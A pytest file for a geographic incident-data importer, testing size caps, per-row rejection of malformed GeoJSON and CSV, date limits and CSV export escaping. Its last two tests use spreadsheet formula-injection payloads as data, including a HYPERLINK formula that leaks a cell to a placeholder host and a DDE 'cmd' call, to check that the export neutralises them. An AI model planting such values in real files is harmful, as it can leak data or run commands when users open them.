"""Hostile and broken dataset files: every import is bounded, every bad row is rejected alone, nothing is merged.

Each test here reproduces one finding of the second adversarial review (issue 10) and failed before its fix.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from geo.export import csv_text, geojson_text, to_geojson
from geo.frames import SPARSE_COLUMN
from geo.imports import read_incidents
from geo.limits import Limits
from geo.problems import DataError
from geo.synthetic import synthetic_incidents


def feature(i: int, **properties) -> dict:
    return {"type": "Feature", "geometry": {"type": "Point", "coordinates": [30.5 + i * 1e-4, 50.4]},
            "properties": {"id": f"f{i}", "date_start": "2023-05-01", **properties}}


def collection(features: list[dict]) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": features}).encode("utf-8")


def plain_csv(header: list[str], rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def messages(result_or_error) -> str:
    return "\n".join(str(p) for p in result_or_error.problems)


# ---- 1. bounded imports ----------------------------------------------------------------------------

def test_too_many_distinct_property_keys_is_refused_naming_the_cap_and_the_setting() -> None:
    raw = collection([feature(i, **{f"key_{i}": "x"}) for i in range(1_200)])
    with pytest.raises(DataError) as error:
        read_incidents(raw, "wide.geojson", limits=Limits(property_keys=1_000))
    text = messages(error.value)
    assert "1,000 distinct property keys" in text and "SIM_MAX_PROPERTY_KEYS" in text and "--max-property-keys" in text


def test_sparse_property_keys_cost_what_the_file_holds_and_nothing_is_lost() -> None:
    # Each feature carries a key of its own: a dense table would be features × keys (the review's 2.7 GB).
    n = 3_000
    raw = collection([feature(i, shared="yes", **{f"key_{i}": f"v{i}"}) for i in range(n)])
    result = read_incidents(raw, "wide.geojson", limits=Limits(property_keys=10_000))
    assert (len(result.frame), result.rejected) == (n, [])
    # Rare keys live in one column of small per-row mappings; a key every feature has stays a column.
    assert "shared" in result.frame.columns and len(result.frame.columns) < 40
    row = result.frame.set_index("id").loc["f1234"]
    assert row[SPARSE_COLUMN] == {"key_1234": "v1234"}
    # The export gives every feature its own properties back, exactly.
    written = {f["id"]: f["properties"] for f in to_geojson(result.frame)["features"]}
    assert written["f1234"]["key_1234"] == "v1234" and "key_1233" not in written["f1234"]
    again = read_incidents(geojson_text(result.frame).encode("utf-8"), "again.geojson", limits=Limits(property_keys=10_000))
    assert to_geojson(again.frame) == to_geojson(result.frame)
    # The CSV export keeps them too (one JSON cell), and reads back to the same incidents.
    from_csv = read_incidents(csv_text(result.frame).encode("utf-8"), "again.csv", limits=Limits(property_keys=10_000))
    assert to_geojson(from_csv.frame) == to_geojson(result.frame)


def test_too_many_columns_is_refused_naming_the_cap() -> None:
    header = ["latitude", "longitude", "date", *(f"c{i}" for i in range(50))]
    with pytest.raises(DataError) as error:
        read_incidents(plain_csv(header, [["50.4", "30.5", "2023-01-01", *["x"] * 50]]), "wide.csv",
                       limits=Limits(columns=20))
    assert "more than 20 columns" in messages(error.value) and "SIM_MAX_COLUMNS" in messages(error.value)


def test_many_columns_are_added_at_once_not_one_by_one(monkeypatch: pytest.MonkeyPatch) -> None:
    # Each column set on a frame copies its column index: 5,000 of them, one by one, took minutes.
    set_items = []
    real_setitem = pd.DataFrame.__setitem__

    def counting(self, key, value):
        set_items.append(key)
        return real_setitem(self, key, value)

    monkeypatch.setattr(pd.DataFrame, "__setitem__", counting)
    header = ["latitude", "longitude", "date", *(f"c{i}" for i in range(600))]
    rows = [["50.4", "30.5", "2023-01-01", *[str(i)] * 600] for i in range(20)]
    result = read_incidents(plain_csv(header, rows), "wide.csv")
    assert (len(result.frame), len(result.extra_columns)) == (20, 601)  # the 600, and the date column as written
    assert len(set_items) < 20


def test_duplicate_headers_are_named_once_each() -> None:
    header = ["latitude", "longitude", "date", "a", "b", "a", "b", "a"]
    with pytest.raises(DataError) as error:
        read_incidents(plain_csv(header, []), "twice.csv")
    assert "column name(s) used twice: 'a' (3 times), 'b' (2 times)" in messages(error.value)


def test_too_many_rows_is_refused_naming_the_cap() -> None:
    rows = [["50.4", "30.5", "2023-01-01"]] * 30
    with pytest.raises(DataError) as error:
        read_incidents(plain_csv(["latitude", "longitude", "date"], rows), "long.csv", limits=Limits(rows=25))
    assert "more than 25 rows" in messages(error.value) and "SIM_MAX_ROWS" in messages(error.value)
    with pytest.raises(DataError) as error:
        read_incidents(collection([feature(i) for i in range(30)]), "long.geojson", limits=Limits(rows=25))
    assert "more than 25 features" in messages(error.value)


def test_a_long_cell_rejects_its_row_not_the_file() -> None:
    long = "x" * 200_000  # over csv's own 128 KiB field limit, which used to refuse the whole file
    rows = [["50.4", "30.5", "2023-01-01", "short"], ["50.4", "30.5", "2023-01-02", long],
            ["50.4", "30.5", "2023-01-03", "short"]]
    result = read_incidents(plain_csv(["latitude", "longitude", "date", "notes"], rows), "long.csv")
    assert (len(result.frame), len(result.rejected)) == (3, 0)  # 200,000 characters is under the default cap
    capped = read_incidents(plain_csv(["latitude", "longitude", "date", "notes"], rows), "long.csv",
                            limits=Limits(cell_chars=100_000))
    assert (len(capped.frame), len(capped.rejected)) == (2, 1)
    assert "line 3" in messages(capped) and "'notes' has 200,000 characters" in messages(capped)
    assert "SIM_MAX_CELL_CHARS" in messages(capped)


def _one_per_line(features: list[dict]) -> bytes:
    body = ",\n".join(json.dumps(f) for f in features)
    return ('{"type": "FeatureCollection", "features": [\n' + body + "\n]}\n").encode("utf-8")


@pytest.mark.parametrize("layout", ["one feature per line", "one document"])
@pytest.mark.parametrize(("cell", "length"), [
    ({"sources": [{"source": "Reuters", "quote": "x" * 1_000}]}, 1_033),  # a long quote inside the sources
    ({"place_names": ["Kyiv"] * 200}, 1_401),
    ({"conflicts_seen": {"note": "y" * 1_000}}, 1_011),  # a mapping of the file's own, not the schema's
    ({"casualties": [1e15] * 60}, 1_141),  # short in the file: "1e15" is written 1000000000000000.0
])
def test_a_list_or_mapping_longer_than_the_cap_as_json_text_rejects_its_row(tmp_path, layout: str, cell: dict,
                                                                            length: int) -> None:
    features = [feature(0), feature(1, **cell), feature(2)]
    raw = _one_per_line(features) if layout == "one feature per line" else collection(features)
    if "casualties" in cell:
        raw = raw.replace(b"1000000000000000.0", b"1e15")
        assert len(raw) < 1_000 * 1.4  # the whole file is hardly longer than the cap
    path = tmp_path / "long.geojson"
    path.write_bytes(raw)
    result = read_incidents(path, limits=Limits(cell_chars=1_000))
    assert result.rejected == ["f1"] and len(result.frame) == 2
    name = next(iter(cell))
    assert f"'{name}' has {length:,} characters as JSON text, over the cap of 1,000" in messages(result)
    assert read_incidents(path, limits=Limits(cell_chars=length)).rejected == []  # at the cap: kept


def test_limits_come_from_the_environment() -> None:
    limits = Limits.from_env({"SIM_MAX_ROWS": "5_000", "SIM_YEARS": "1700-2200", "SIM_MAX_CELL_CHARS": "10,000"})
    assert (limits.rows, limits.first_year, limits.last_year, limits.cell_chars) == (5_000, 1700, 2200, 10_000)
    for bad in ({"SIM_MAX_ROWS": "many"}, {"SIM_MAX_ROWS": "0"}, {"SIM_YEARS": "2100-1800"}, {"SIM_YEARS": "1-9999"}):
        with pytest.raises(ValueError, match="SIM_"):
            Limits.from_env(bad)


def test_running_out_of_memory_is_reported_not_raised(monkeypatch: pytest.MonkeyPatch) -> None:
    import geo.imports

    def exhausted(*_args, **_kwargs):
        raise MemoryError

    monkeypatch.setattr(geo.imports, "finish", exhausted)
    with pytest.raises(DataError) as error:
        read_incidents(plain_csv(["latitude", "longitude", "date"], [["50.4", "30.5", "2023-01-01"]]), "big.csv")
    assert "not enough memory" in messages(error.value)


# ---- 2. validated structure -------------------------------------------------------------------------

@pytest.mark.parametrize("conflicts", [
    [1], [None], [{"field": 1}], [{"field": "date"}], [{"field": "date", "values": "x"}],
    [{"field": "date", "values": [None]}], [{"field": "date", "values": [{"value": "a"}]}], "not a list", {"field": "x"},
    [{"field": "date", "values": [{"value": {"nested": 1}, "source": "a"}]}],
])
def test_a_malformed_conflict_rejects_its_row(conflicts) -> None:
    good = [{"field": "date", "values": [{"value": "2023-05-01", "source": "a"}, {"value": 5, "source": "b"}]}]
    raw = collection([feature(0, conflicts=good), feature(1, conflicts=conflicts), feature(2)])
    result = read_incidents(raw, "conflicts.geojson")
    assert result.rejected == ["f1"]
    assert "conflicts" in messages(result) and "{field, values: [{value, source}]}" in messages(result)
    assert result.frame.set_index("id").loc["f0", "conflicts"] == good


# ---- 4. strict CSV ----------------------------------------------------------------------------------

def test_a_stray_quote_costs_its_own_line_and_the_rows_after_it_load() -> None:
    rows = [[f"{50 + i / 1000}", "30.5", "2023-01-01", f"event {i}"] for i in range(1_000)]
    text = plain_csv(["latitude", "longitude", "date", "title"], rows).decode("utf-8").splitlines()
    text[1] = '50.0,30.5,2023-01-01,"stray quote here'
    result = read_incidents(("\n".join(text) + "\n").encode("utf-8"), "stray.csv")
    assert (result.rows, len(result.frame), len(result.rejected)) == (1_000, 999, 1)
    assert "stray.csv:2" in messages(result) and "never closed" in messages(result)
    assert result.frame["title"].str.len().max() < 20


def test_two_stray_quotes_do_not_merge_the_lines_between_them() -> None:
    lines = ["latitude,longitude,date,title"] + [f"50.{i},30.5,2023-01-01,event {i}" for i in range(10, 60)]
    lines[3] = '50.3,30.5,2023-01-01,"opened'
    lines[40] = '50.4,30.5,2023-01-01,closed" and more'
    result = read_incidents(("\n".join(lines) + "\n").encode("utf-8"), "two.csv")
    assert result.rows == 50 and len(result.frame) + len(result.rejected) == 50
    assert len(result.frame) >= 48 and "two.csv:4" in messages(result)


def test_text_after_a_closing_quote_rejects_the_row() -> None:
    raw = b'latitude,longitude,date,title\n50.4,30.5,2023-01-01,"quoted"tail\n50.4,30.5,2023-01-02,fine\n'
    result = read_incidents(raw, "tail.csv")
    assert (len(result.frame), result.rows) == (1, 2) and "tail.csv:2" in messages(result)


def test_a_quoted_cell_over_several_lines_is_still_one_cell() -> None:
    raw = b'latitude,longitude,date,notes\n50.4,30.5,2023-01-01,"two\nlines, and a comma"\n50.4,30.5,2023-01-02,x\n'
    result = read_incidents(raw, "multi.csv")
    assert (len(result.frame), result.rejected) == (2, [])
    assert result.frame["description"].iloc[0] == "two\nlines, and a comma"  # notes: the entry's own text


# ---- 5. dates at the edge of the range --------------------------------------------------------------

@pytest.mark.parametrize("value", ["9999-12-31", "0001-01-01", "2262-04", "1677-09", "1799-12-31", "2101", "2262-04-12"])
def test_a_date_outside_the_years_rejects_only_its_row(value: str) -> None:
    rows = [["50.4", "30.5", "2023-01-01"], ["50.4", "30.5", value], ["50.4", "30.5", "2023-03"]]
    result = read_incidents(plain_csv(["latitude", "longitude", "date"], rows), "edge.csv")
    assert (len(result.frame), result.rejected) == (2, ["row-2"])
    assert "outside the years 1800–2100" in messages(result) and "SIM_YEARS" in messages(result)


def test_an_open_end_placeholder_rejects_its_row() -> None:
    rows = [["50.4", "30.5", "2023-01-01", "9999-12-31"], ["50.4", "30.5", "2023-01-01", "2023-02-01"]]
    result = read_incidents(plain_csv(["latitude", "longitude", "date", "date_end"], rows), "open.csv")
    assert (len(result.frame), len(result.rejected)) == (1, 1) and "9999-12-31" in messages(result)


def test_the_accepted_years_are_a_setting() -> None:
    rows = [["50.4", "30.5", "1750-06-01"]]
    assert len(read_incidents(plain_csv(["latitude", "longitude", "date"], rows), "old.csv").frame) == 0
    old = read_incidents(plain_csv(["latitude", "longitude", "date"], rows), "old.csv", limits=Limits(first_year=1700))
    assert list(old.frame["date_start"]) == ["1750-06-01"]


def test_an_acled_week_near_the_end_of_pandas_range_is_rejected_not_raised() -> None:
    header = ["event_id_cnty", "event_date", "time_precision", "latitude", "longitude"]
    rows = [["A1", "2262-04-10", "2", "50.4", "30.5"], ["A2", "2023-01-05", "2", "50.4", "30.5"]]
    result = read_incidents(plain_csv(header, rows), "acled.csv")
    assert (list(result.frame["id"]), result.rejected) == (["A2"], ["A1"])


# ---- 8. smaller -------------------------------------------------------------------------------------

def test_a_second_pair_of_coordinate_columns_is_kept_under_another_name_and_round_trips() -> None:
    rows = [["50.4", "30.5", "50.41", "30.51", "2023-01-01"]]
    result = read_incidents(plain_csv(["latitude", "longitude", "lat", "lon", "date"], rows), "both.csv")
    assert (float(result.frame.geometry.y.iloc[0]), result.frame["lat_2"].iloc[0]) == (50.4, "50.41")
    assert "'lat' is kept as 'lat_2'" in messages(result)
    again = read_incidents(csv_text(result.frame).encode("utf-8"), "again.csv")
    assert (again.rejected, to_geojson(again.frame)) == ([], to_geojson(result.frame))


def test_a_geojson_file_with_a_byte_order_mark_loads() -> None:
    raw = "\ufeff".encode() + collection([feature(0)])
    assert len(read_incidents(raw, "bom.geojson").frame) == 1
    lines = "\ufeff" + geojson_text(synthetic_incidents(3, seed=1))
    assert len(read_incidents(lines.encode("utf-8"), "bom-lines.geojson").frame) == 3


def test_properties_named_like_internal_values_are_kept() -> None:
    raw = collection([feature(0, _lat="mine", _error="also mine", _lon=1)])
    result = read_incidents(raw, "underscore.geojson")
    assert result.rejected == []
    assert {"_lat": "mine", "_error": "also mine", "_lon": 1}.items() <= result.frame.iloc[0].to_dict().items()
    assert float(result.frame.geometry.y.iloc[0]) == 50.4


def test_a_round_trip_through_the_csv_export_keeps_formula_like_text(tmp_path: Path) -> None:
    frame = synthetic_incidents(4, seed=2)
    frame["title"] = ['=HYPERLINK("http://x/"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "'=already quoted"]
    frame["notes"] = ["-2+3", "-2", "\tTab", "\rReturn"]
    path = tmp_path / "formulas.csv"
    path.write_text(csv_text(frame), encoding="utf-8")
    again = read_incidents(path)
    assert again.rejected == [] and to_geojson(again.frame) == to_geojson(read_incidents(
        geojson_text(frame).encode("utf-8"), "same.geojson").frame)


def test_the_csv_export_marks_formulas_but_not_numbers_and_the_geojson_export_is_exact() -> None:
    frame = synthetic_incidents(1, seed=2)
    frame["title"] = "=1+1"
    frame["=free column"] = "@cmd"
    frame["offset"] = "-3.5"
    frame["count"] = -3
    rows = list(csv.DictReader(io.StringIO(csv_text(frame))))
    assert rows[0]["title"] == "'=1+1" and rows[0]["'=free column"] == "'@cmd"
    assert rows[0]["offset"] == "-3.5" and rows[0]["count"] == "-3" and float(rows[0]["lat"]) > 0
    properties = to_geojson(frame)["features"][0]["properties"]
    assert (properties["title"], properties["=free column"]) == ("=1+1", "@cmd")
